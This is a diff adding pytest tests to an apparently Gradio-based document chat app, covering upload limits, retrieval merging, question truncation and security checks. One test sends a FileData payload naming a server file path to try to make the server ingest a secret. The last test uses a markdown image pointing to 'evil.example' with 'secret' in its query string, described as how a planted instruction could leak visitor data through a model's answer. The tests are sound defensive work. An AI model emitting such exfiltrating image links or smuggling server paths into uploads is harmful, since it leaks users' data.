@@ -528,3 +528,72 @@ def test_the_code_tab_says_up_front_when_this_server_cannot_isolate_runs(monkeyp
     monkeypatch.setattr(code, "isolation_problem", lambda: None)
     assert code.isolation_note(SandboxLimits()) == ""
 
+
+
+def test_an_api_client_cannot_make_the_server_ingest_its_own_files(stores, tmp_path):
+    """A FileData naming a server path instead of an upload is refused, and nothing reaches the visitor's store."""
+    from fastapi.testclient import TestClient
+
+    secret = tmp_path / "outside" / "secret.txt"
+    secret.parent.mkdir()
+    secret.write_text("the admin password is hunter2")
+    services = make_services(stores, tmp_path)
+    payload = {"data": [[{"path": str(secret), "meta": {"_type": "gradio.FileData"}, "orig_name": "secret.txt"}]],
+               "session_hash": "attacker"}
+    with TestClient(app.create_app(services, app.build_demo(services))) as client:
+        event = client.post("/gradio_api/call/ingest", json=payload).json()["event_id"]
+        stream = client.get(f"/gradio_api/call/ingest/{event}").text
+    assert "event: error" in stream and "hunter2" not in stream
+    assert services.stores.get("attacker").documents() == []
+
+
+def test_uploads_over_the_session_limit_get_a_clear_message(settings, embedder, docs, tmp_path):
+    registry = SessionKnowledgeBases(settings, embedder, root=tmp_path / "sessions", max_stores=1)
+    services = make_services(registry, tmp_path)
+    knowledge.ingest_files(services, "first", [str(docs["docx"])])
+    table, report = knowledge.ingest_files(services, "second", [str(docs["docx"])])
+    assert table == [] and "❌" in report and "holding the documents of 1 visitors" in report
+    _, report_zh = knowledge.ingest_files(services, "second", [str(docs["docx"])], lang="zh")
+    assert "已达上限" in report_zh
+    registry.close_all()
+
+
+def test_the_visitors_keyword_only_passage_is_not_dropped_behind_library_hits():
+    """Merging with the library by rank, not by dense score: a keyword-only hit (no dense score) keeps its place."""
+    from knowledge.types import Chunk, SearchResult
+    from ui.services import SessionRetriever
+
+    def result(name, dense):
+        chunk = Chunk(doc_id=1, file_name=name, page=1, ordinal=0, text=name, start_char=0, end_char=len(name))
+        return SearchResult(chunk, score=0.5, dense_score=dense, lexical_rank=None if dense else 1)
+
+    class Fixed:
+        def __init__(self, results):
+            self.results = results
+
+        def search(self, query, k=5):
+            return self.results[:k]
+
+        def __len__(self):
+            return len(self.results)
+
+    own = Fixed([result("target.txt", None), result("own-2.txt", 0.1)])
+    library = Fixed([result("handbook.txt", 0.12), result("policy.txt", 0.11)])
+    merged = SessionRetriever(own, library).search("q", k=3)
+    assert [r.file_name for r in merged] == ["target.txt", "handbook.txt", "own-2.txt"]
+
+
+def test_an_overlong_question_is_cut_with_a_notice_in_the_visitors_language(stores, tmp_path):
+    services = make_services(stores, tmp_path)
+    question = "What is the notice period? " + "x" * 50_000
+    turn = list(chat.chat_stream(services, "s", question, []))[-1][-1]
+    assert len(turn.question) == chat.MAX_QUESTION_CHARS and turn.notices[0].startswith("Your question was cut")
+    turn_zh = list(chat.chat_stream(services, "s", question, [], lang="zh"))[-1][-1]
+    assert "8,000" in turn_zh.notices[0] and "问题过长" in turn_zh.notices[0]
+
+
+def test_model_answers_show_markdown_images_as_links_only():
+    """An image loads by itself: a planted instruction could put the visitor's data in its URL."""
+    turn = render.Turn("q", answer="Done ![x](https://evil.example/?q=secret) [1].", finished=True)
+    shown = render.answer_markdown(turn)
+    assert "![x]" not in shown and "[x](https://evil.example/?q=secret)" in shown
